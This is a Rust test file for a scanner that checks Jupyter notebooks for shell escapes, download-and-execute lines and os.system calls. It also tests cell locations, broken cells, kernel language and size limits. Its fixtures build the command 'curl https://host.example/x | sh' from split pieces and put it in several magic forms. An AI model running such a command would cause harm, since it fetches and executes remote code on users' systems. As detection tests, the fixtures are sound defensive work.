//! Notebooks: every code cell is read, whatever stands in it.

use gate_core::coverage::{CoverageClass, LostReason, OpaqueKind};

use super::behaviour::Case;
use super::{build, scan};
use crate::python::MAX_NOTEBOOK_BYTES;

fn notebook(cells: &[&str]) -> String {
    let cells: Vec<_> = cells
        .iter()
        .map(|source| serde_json::json!({"cell_type": "code", "execution_count": null, "metadata": {}, "outputs": [], "source": source}))
        .collect();
    serde_json::json!({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 2}).to_string()
}

pub(super) fn fires() -> Vec<Case> {
    let install = build(&["!cu", "rl https://host.example/x | s", "h"]);
    vec![
        ("notebook-shell", "a.ipynb", notebook(&["!ls"])),
        ("notebook-shell", "a.ipynb", notebook(&["x = !ls"])),
        ("notebook-shell", "a.ipynb", notebook(&["%%bash\nls"])),
        ("notebook-shell", "a.ipynb", notebook(&["pip install x"])),
        ("notebook-download-execute", "a.ipynb", notebook(&["x = 1", &install])),
        ("notebook-download-execute", "a.ipynb", notebook(&[&install.replace('!', "%%sh\n")])),
        ("notebook-download-execute", "a.ipynb", notebook(&[&install.replace('!', "%system ")])),
    ]
}

pub(super) fn silent() -> Vec<Case> {
    vec![
        ("notebook-shell", "a.ipynb", notebook(&["%matplotlib inline\nx = 1", "%%html\n<b>", "x?"])),
        ("notebook-download-execute", "a.ipynb", notebook(&["!pip install x", "!wget https://host.example/data.csv"])),
    ]
}

fn rules(source: &str) -> Vec<(String, String, u32)> {
    let (findings, _) = scan("a.ipynb", source.as_bytes());
    let place = |finding: gate_core::finding::Finding| {
        let location = finding.location.unwrap();
        (finding.rule, location.path, location.line.unwrap())
    };
    findings.into_iter().map(place).collect()
}

#[test]
fn places_name_the_cell_and_its_row() {
    let source = notebook(&["import os", "%%html\n<b>", "x = 1\n\nos.system(x)  # noqa"]);
    assert!(rules(&source).contains(&("S605".to_owned(), "a.ipynb#3".to_owned(), 3)), "{:?}", rules(&source));
}

#[test]
fn cells_that_ruff_leaves_out_are_read() {
    for cell in [
        "time\nimport os\nos.system(x)",
        "%%unknown\nimport os\nos.system(x)",
        "%%time\nimport os\nos.system(x)",
        "%%capture out\nimport os\nos.system(x)",
    ] {
        assert!(rules(&notebook(&[cell])).iter().any(|(rule, ..)| rule == "S605"), "{cell}");
    }
    let mut other: serde_json::Value = serde_json::from_str(&notebook(&["import os\nos.system(x)"])).unwrap();
    other["cells"][0]["metadata"]["vscode"]["languageId"] = "sql".into();
    assert!(rules(&other.to_string()).iter().any(|(rule, ..)| rule == "S605"));
}

#[test]
fn one_broken_cell_loses_the_notebook_and_not_the_findings_of_the_others() {
    let source = notebook(&["import os\nos.system(x)", "def f(:\n  pass"]);
    let (findings, class) = scan("a.ipynb", source.as_bytes());
    assert!(findings.iter().any(|finding| finding.rule == "S605"));
    assert!(
        matches!(&class, CoverageClass::Lost { reason: LostReason::Unparsable, detail } if detail.starts_with("cell 2")),
        "{class:?}"
    );
}

#[test]
fn what_is_no_notebook_of_format_4_is_lost() {
    for source in [
        "{}".to_owned(),
        "not json".to_owned(),
        notebook(&["x"]).replace("\"nbformat\":4", "\"nbformat\":3"),
        notebook(&["x"]).replace("\"cells\"", "\"cells\":[],\"cells\""),
    ] {
        let (_, class) = scan("a.ipynb", source.as_bytes());
        assert!(matches!(class, CoverageClass::Lost { reason: LostReason::Unparsable, .. }), "{source}: {class:?}");
    }
    let (_, class) = scan("a.ipynb", b"\xff");
    assert!(matches!(class, CoverageClass::Lost { reason: LostReason::Undecodable, .. }));
}

#[test]
fn the_kernel_decides_the_language() {
    let with = |info: &str, kernel: &str| {
        let mut source: serde_json::Value = serde_json::from_str(&notebook(&["import os\nos.system(x)"])).unwrap();
        source["metadata"] = serde_json::json!({
            "language_info": {"name": info},
            "kernelspec": {"name": kernel, "display_name": kernel, "language": kernel},
        });
        scan("a.ipynb", source.to_string().as_bytes()).1
    };
    let analysed = CoverageClass::Analysed { analyzer: "python".to_owned() };
    assert_eq!(with("python", "python3"), analysed);
    assert_eq!(with("julia", "python3"), analysed);
    assert_eq!(with("R", "ir"), CoverageClass::Opaque { kind: OpaqueKind::OtherSource });
}

#[test]
fn a_notebook_has_its_own_limit() {
    let empty = notebook(&["x = 1"]);
    for (size, fine) in [(MAX_NOTEBOOK_BYTES - 1, true), (MAX_NOTEBOOK_BYTES, true), (MAX_NOTEBOOK_BYTES + 1, false)] {
        let source = format!("{empty}{}", " ".repeat(size - empty.len()));
        let (_, class) = scan("a.ipynb", source.as_bytes());
        assert_eq!(matches!(class, CoverageClass::Analysed { .. }), fine, "{size}");
        assert_eq!(matches!(class, CoverageClass::Lost { reason: LostReason::Limit, .. }), !fine, "{size}");
    }
}
